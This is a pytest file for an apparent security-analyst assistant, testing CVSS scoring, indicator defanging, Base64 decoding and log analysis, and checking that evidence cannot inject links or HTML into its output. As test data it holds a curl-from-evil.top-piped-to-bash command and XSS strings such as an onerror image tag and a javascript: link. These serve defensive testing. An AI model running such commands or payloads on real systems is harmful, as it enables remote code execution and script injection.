"""Sections on scores, indicators, decoding: the verdict's numbers, the tables, evidence that cannot break out."""

from __future__ import annotations

import base64

import pytest
from markdown_it import MarkdownIt

from svc.assistant.analyst import render
from svc.assistant.analyst.contract import SkillResult
from svc.assistant.analyst.plan import Plan
from svc.assistant.findings import Finding, Severity, ToolFailure
from svc.assistant.skills.answer_parts import as_sections
from svc.assistant.skills.catalogue import SKILLS, section_of, skill_of_kind
from svc.assistant.skills.cvss import answer as cvss_section
from svc.assistant.skills.cvss import tool as cvss
from svc.assistant.skills.decode import answer as decode_section
from svc.assistant.skills.decode import tool as decode
from svc.assistant.skills.indicators import answer as indicators_section
from svc.assistant.skills.indicators import tool as indicators
from svc.assistant.skills.logins import tool as auth_log
from svc.assistant.skills.skill import Skill
from tests.support.openings import opening


def of(items) -> list[Finding]:
    return [item for item in items if isinstance(item, Finding)]


def links_images_and_html(markdown: str) -> list[str]:
    parser = MarkdownIt("commonmark", {"html": True}).enable("table")
    kinds = {"link_open", "image", "html_inline", "html_block"}
    tokens = parser.parse(markdown)
    return [child.type for token in tokens for child in [token, *(token.children or [])] if child.type in kinds]


def test_one_score_has_its_severity_and_largest_reduction():
    found = of(cvss.inspect("CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H"))
    assert cvss_section.verdict(found).startswith("**9.8 critical** (CVSS 3.1, base score). Largest reduction:")
    assert "| `AV:N` | Attack vector | network |" in cvss_section.body(found)


def test_several_scores_name_the_highest_and_count_invalid_vectors():
    text = "AV:L/AC:H/Au:M/C:P/I:N/A:N CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H CVSS:3.1/AV:N/AC:L"
    verdict = cvss_section.verdict(of(cvss.inspect(text)))
    assert verdict.startswith("**2 CVSS vectors; the highest is 9.8 critical:**")
    assert verdict.endswith("1 vector is not valid.")


def test_an_invalid_vector_names_the_metric_and_the_allowed_values():
    found = of(cvss.inspect("CVSS:3.1/AV:N/AC:Q/PR:N/UI:N/S:U/C:H/I:H/A:H"))
    assert "If corrected, it scores between 8.1 and 9.8" in cvss_section.verdict(found)
    assert "`AC`: L, H" in cvss_section.body(found)


def test_indicators_are_counted_by_type_and_defanged():
    found = of(indicators.inspect("http://evil.top/a and 45.9.148.3:8080, 10.0.0.1", source="r.txt"))
    assert indicators_section.verdict(found).startswith("**4 indicators:** 2 IPv4 addresses, 1 URL, 1 domain.")
    section = as_sections(indicators_section.SECTION.folds(found))
    assert "`hxxp://evil[.]top/a`" in section
    assert section.index("45[.]9[.]148[.]3") < section.index("10[.]0[.]0[.]1")
    assert "private range" in section
    assert "port 8080" in section


def test_a_decoded_command_is_shown_in_full_and_named():
    plain = "curl http://evil.top/x.sh | bash"
    found = of(decode.inspect(base64.b64encode(plain.encode()).decode(), source="prompt"))
    verdict = decode_section.verdict(found)
    assert verdict.startswith(f"**Decoded** through 1 layer (Base64): `{plain}`.")
    assert "**Suspicious:** a download piped into a shell (curl hxxp://evil" in verdict
    assert "`hxxp://evil[.]top/x.sh`" in as_sections(decode_section.SECTION.folds(found))


HOSTILE = "`![x](http://evil.top/p.png) <img src=x onerror=alert(1)> ``` | [a](javascript:alert(1)) **b**"


@pytest.mark.parametrize(
    "section", [cvss_section, indicators_section, decode_section], ids=["cvss", "indicators", "decode"]
)
def test_evidence_cannot_create_links_images_or_html(section):
    vector = "CVSS:3.1/AV:N/AC:<img>/PR:[x](http://evil.top)/UI:N/S:U/C:H/I:H/A:`"
    wrapped = base64.b64encode(f"whoami the user {HOSTILE}".encode()).decode()
    items = {
        cvss_section: [*cvss.inspect(f"{HOSTILE} {vector}", source=HOSTILE)],
        indicators_section: [*indicators.inspect(f"hxxp://evil.top/a {HOSTILE}", source=HOSTILE)],
        decode_section: [*decode.inspect(f"decode this: {wrapped}", source=HOSTILE)],
    }[section]
    found = of(items)
    assert found
    shown = [section.verdict(found), *section.SECTION.facts(found), as_sections(section.SECTION.folds(found))]
    assert links_images_and_html("\n\n".join(shown)) == []


def test_an_account_attacked_by_many_sources_is_in_the_verdict():
    line = "Nov 20 0{hour}:{minute:02}:45 web1 sshd[{pid}]: Failed password for root from 192.0.2.{n} port 22 ssh2"
    lines = [line.format(hour=n // 4, minute=n % 4 * 15, pid=n + 100, n=n) for n in range(30)]
    said = opening(section_of(skill_of_kind("auth_account")), of(auth_log.inspect(lines, source="auth.log")))
    assert said.startswith("**Password guessing; no attacking source logged in.**")
    assert "**Targeted account**: `root` (30); from line 1." in said


@pytest.mark.parametrize("skill", SKILLS, ids=lambda skill: skill.name)
def test_a_tool_that_did_not_finish_still_gets_an_answer(skill: Skill):
    facts = ToolFailure(tool="x", reason="it crashed", where="", source="x.bin")
    failed = Finding(title="x did not finish", severity=Severity.MEDIUM, facts=facts)
    part = SkillResult(skill=skill, findings=(failed,), inputs=("x.bin",))
    assert render.answer([part], Plan()).startswith("**No result for `x.bin`:** the tool did not finish")
    assert not section_of(skill).pictures(render.shown(part))
